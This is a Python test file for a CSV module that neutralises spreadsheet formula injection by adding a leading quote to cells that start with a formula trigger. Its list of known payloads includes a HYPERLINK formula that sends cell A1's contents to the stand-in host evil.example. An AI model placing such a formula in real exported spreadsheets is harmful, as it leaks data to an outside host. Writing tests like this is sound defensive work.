"""CSV formula neutralisation: what a spreadsheet reads back is never a formula, and raw
mode gives programs their bytes back unchanged."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from annotation.csv_cells import RAW, TRIGGERS, CsvRows, csv_cell

# Text that hugs the triggers: leading spaces, fullwidth forms, separators, quotes.
TRICKY = st.sampled_from(sorted(TRIGGERS) + [" ", "\u3000", "\u00a0", ";", ",", '"', "'", "a"])
CELL = st.one_of(st.text(), st.lists(TRICKY, max_size=6).map("".join).flatmap(
    lambda head: st.text(max_size=20).map(lambda tail: head + tail)))  # fmt: skip


def written(rows: list[list], *, mode: str) -> str:
    out = io.StringIO()
    writer = CsvRows(out, mode=mode)
    writer.header(["a", "b"])
    for row in rows:
        writer.row(row)
    return out.getvalue()


def read_back(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))[1:]


def starts_a_formula(cell: str) -> bool:
    return cell[:1] in TRIGGERS or cell.lstrip()[:1] in TRIGGERS


@settings(max_examples=400, deadline=None)
@given(st.lists(st.tuples(CELL, CELL).map(list), min_size=1, max_size=5))
def test_no_neutralised_cell_reads_back_as_a_formula(rows):
    for row in read_back(written(rows, mode="escape")):
        assert not any(starts_a_formula(cell) for cell in row), row


def test_a_semicolon_cannot_start_a_new_cell_in_a_semicolon_locale():
    """OWASP: a separator in the text must not open a cell that starts with a trigger."""
    line = written([["x;=1+1", "y"]], mode="escape").splitlines()[1]
    assert line == '"x;=1+1","y"'
    assert next(csv.reader([line.split(",")[0]], delimiter=";")) == ["x;=1+1"]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.tuples(CELL, CELL).map(list), min_size=1, max_size=5))
def test_raw_mode_round_trips_and_writes_what_csv_writer_writes(rows):
    text = written(rows, mode=RAW)
    assert read_back(text) == rows
    plain = io.StringIO()
    csv.writer(plain).writerows([["a", "b"], *rows])
    assert text == plain.getvalue()


@given(CELL)
def test_neutralising_only_ever_adds_one_leading_quote(cell):
    assert csv_cell(cell) in (cell, "'" + cell)
    assert (csv_cell(cell) != cell) == starts_a_formula(cell)


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)",
     "\t=1", "\r=1", "\n=1", "  =1+1", "\uff1d1+1", "\u3000@x"],
)  # fmt: skip
def test_known_payloads_get_a_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["", "hello", "a=b", "'=already text", "1-2", "x@y"])
def test_harmless_text_is_unchanged(value):
    assert csv_cell(value) == value


def test_numbers_pass_untouched_and_unquoted():
    assert written([["x", 0.5]], mode="escape").splitlines()[1] == '"x",0.5'


def test_an_unknown_mode_is_refused():
    with pytest.raises(ValueError, match="csv_formulas"):
        CsvRows(io.StringIO(), mode="excel")
